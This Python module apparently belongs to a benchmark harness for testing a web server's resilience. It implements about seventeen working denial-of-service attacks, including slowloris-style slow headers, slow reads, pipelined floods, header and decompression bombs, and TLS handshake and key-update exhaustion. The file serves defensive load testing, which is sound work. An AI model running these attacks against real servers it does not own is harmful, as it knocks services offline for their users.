"""Attacks on a front door, by name. Each is bounded in connections and time, and ends by itself.

slowhttptest's -H, -B and -X are the first three; the classes are those of the HTTP/1.1 attack lists (31 to 34).
"""

from __future__ import annotations

import gzip
import socket
import ssl
import time
from collections.abc import Callable
from contextlib import suppress

from benchmarks.hostile.attacker import Attack, Tally, Target, connect, drain, send
from benchmarks.hostile.http2_floods import HTTP2_FLOODS
from benchmarks.hostile.records import Conversation

_STEP = 0.02  # seconds between two steps of a slow attack
_KEY_UPDATES = 6000  # per connection: more than the front door tolerates
_UNBOUND = b"GET / HTTP/1.1\r\nHost: nobody.example\r\n\r\n"


def _head(target: Target, start: str, *lines: str) -> bytes:
    return "\r\n".join([f"{start} HTTP/1.1", f"Host: {target.host}", *lines, "", ""]).encode()


def _drip(socks: list[socket.socket], piece: bytes, tally: Tally) -> None:
    """Sends one piece per second on each connection, evenly spread."""
    tally.ready.set()
    at, due = 0, time.monotonic()
    while tally.running() and socks:
        now = time.monotonic()
        while due < now and socks:
            at = (at + 1) % len(socks)
            if not send(socks[at], piece, tally):
                socks.pop(at).close()
            due += 1 / max(len(socks), 1)
        time.sleep(_STEP)  # slowness is the attack


def slow_heads(target: Target, size: int, tally: Tally) -> None:
    socks = connect(target, size, tally)
    for sock in socks:
        send(sock, _head(target, "GET /")[:-2] + b"X-Slow: ", tally)
    _drip(socks, b"x", tally)


def slow_bodies(target: Target, size: int, tally: Tally) -> None:
    socks = connect(target, size, tally)
    for sock in socks:
        send(sock, _head(target, "POST /", "Content-Length: 1000000"), tally)
    _drip(socks, b"x", tally)


def tiny_chunks(target: Target, size: int, tally: Tally) -> None:
    """Bodies in chunks of one byte, as fast as they are accepted."""
    socks = connect(target, size, tally)
    for sock in socks:
        send(sock, _head(target, "POST /", "Transfer-Encoding: chunked"), tally)
    _press(socks, lambda: b"1\r\nx\r\n" * 500, tally)


def slow_readers(target: Target, size: int, tally: Tally) -> None:
    """A large response each, of which a few bytes a second are read."""
    socks = connect(target, size, tally, receive_buffer=2048)
    for sock in socks:
        send(sock, _head(target, "GET /large"), tally)
    tally.ready.set()
    while tally.running():
        for sock in socks:
            with suppress(OSError):
                sock.recv(64)
        tally.stop.wait(1)


def half_open(target: Target, size: int, tally: Tally) -> None:
    """Half a request, then the client's side is shut."""
    for sock in (socks := connect(target, size, tally)):
        send(sock, _head(target, "GET /")[:-2], tally)
        with suppress(OSError):
            sock.shutdown(socket.SHUT_WR)
    _wait(socks, tally)


def idle(target: Target, size: int, tally: Tally) -> None:
    """Connections that made one request each, and then none."""
    socks = connect(target, size, tally)
    request = _head(target, "GET /")
    for sock in socks:
        sock.settimeout(10)
        with suppress(OSError):
            sock.sendall(request)
            tally.add(sent=len(request), answers=bool(sock.recv(65536)))
    _wait(socks, tally)


def silent(target: Target, size: int, tally: Tally) -> None:
    _wait(connect(target, size, tally), tally)


def _wait(socks: list[socket.socket], tally: Tally) -> None:
    tally.ready.set()
    while tally.running():
        time.sleep(_STEP)  # doing nothing is the attack
    for sock in socks:
        sock.close()


def _press(socks: list[socket.socket], make: Callable[[], bytes], tally: Tally) -> None:
    """Send as much as is accepted, and read what arrives."""
    tally.ready.set()
    rest = dict.fromkeys(socks, b"")
    while tally.running() and rest:
        moved = False
        for sock in list(rest):
            data = rest[sock] or make()
            try:
                count = sock.send(data)
            except BlockingIOError:
                count = 0
            except OSError:
                count = -1
            if count >= 0:
                tally.add(sent=count)
                rest[sock] = data[count:]
            if count < 0 or not drain(sock, tally):
                sock.close()
                del rest[sock]
            moved = moved or count > 0
        if not moved:
            time.sleep(0.001)  # nothing is accepted: do not take CPU time from the front door


def tiny_requests(target: Target, size: int, tally: Tally) -> None:
    """Requests for an instance, as many as are accepted, pipelined on each connection."""
    _press(connect(target, size, tally), lambda: _head(target, "GET /") * 100, tally)


def pipelined_refusals(target: Target, size: int, tally: Tally) -> None:
    """Requests that the front door answers itself: nothing slows it but the client."""
    _press(connect(target, size, tally), lambda: _UNBOUND * 200, tally)


def unread_answers(target: Target, size: int, tally: Tally) -> None:
    """Pipelined requests whose responses are not read."""
    socks = connect(target, size, tally, receive_buffer=4096)
    tally.ready.set()
    while tally.running():
        socks = [sock for sock in socks if send(sock, _UNBOUND * 200, tally)]
        time.sleep(_STEP)  # they are full: an occasional attempt is enough


def field_bombs(target: Target, size: int, tally: Tally) -> None:
    """A thousand fields in every request, the most that are allowed."""
    request = _head(target, "GET /", *(f"X-{number}: {number}" for number in range(990)))
    _press(connect(target, size, tally), lambda: request * 5, tally)


def cookie_bombs(target: Target, size: int, tally: Tally) -> None:
    """Heads of 60 KB."""
    request = _head(target, "GET /", *("Cookie: " + "x" * 8000 for _ in range(7)))
    _press(connect(target, size, tally), lambda: request, tally)


def decompression_bombs(target: Target, size: int, tally: Tally) -> None:
    """Bodies of 20 KB that would be 20 MB."""
    body = gzip.compress(bytes(20 << 20))
    request = _head(target, "POST /", "Content-Encoding: gzip", f"Content-Length: {len(body)}") + body
    _press(connect(target, size, tally), lambda: request, tally)


def connect_and_leave(target: Target, size: int, tally: Tally) -> None:
    """Connections that are reset as soon as they are made, so many per round."""
    tally.ready.set()
    while tally.running():
        for sock in connect(target, size, tally):
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
            sock.close()


def _client_hello(target: Target) -> bytes:
    context = ssl.create_default_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    connection = context.wrap_bio(incoming, outgoing, server_hostname=target.host)
    with suppress(ssl.SSLWantReadError):
        connection.do_handshake()
    return outgoing.read()


def dropped_handshakes(target: Target, size: int, tally: Tally) -> None:
    """A client hello, which costs the server a signature; the connection is dropped when the answer arrives."""
    hello = _client_hello(target)
    tally.ready.set()
    while tally.running():
        socks = connect(target, size, tally, tls=True)
        for sock in socks:
            send(sock, hello, tally)
        for sock in socks:
            sock.settimeout(5)
            with suppress(OSError):
                tally.add(answers=bool(sock.recv(65536)))
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
            sock.close()


def stalled_handshakes(target: Target, size: int, tally: Tally) -> None:
    """Half a client hello each."""
    hello = _client_hello(target)
    socks = connect(target, size, tally, tls=True)
    for sock in socks:
        send(sock, hello[: len(hello) // 2], tally)
    _wait(socks, tally)


def key_updates(target: Target, size: int, tally: Tally) -> None:
    """Key updates of TLS 1.3, as fast as they are accepted: work for the server without a byte of data."""
    rest: dict[socket.socket, bytes] = {}
    for _ in range(size):
        client = Conversation(target.https, target.host, ssl.TLSVersion.TLSv1_3)
        client.sock.setblocking(False)
        rest[client.sock] = client.key_updates(_KEY_UPDATES)
    tally.add(connections=size)
    tally.ready.set()
    while tally.running() and rest:
        for sock in list(rest):
            try:
                count = sock.send(rest[sock])
            except BlockingIOError:
                continue
            except OSError:
                count = len(rest[sock])
                tally.add(lost=1)
            tally.add(sent=count)
            rest[sock] = rest[sock][count:]
            if not rest[sock]:
                del rest[sock]
                sock.close()
    _wait(list(rest), tally)


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        slow_heads,
        slow_bodies,
        slow_readers,
        half_open,
        idle,
        silent,
        tiny_requests,
        pipelined_refusals,
        unread_answers,
        tiny_chunks,
        field_bombs,
        cookie_bombs,
        decompression_bombs,
        connect_and_leave,
        dropped_handshakes,
        stalled_handshakes,
        key_updates,
    )
} | HTTP2_FLOODS
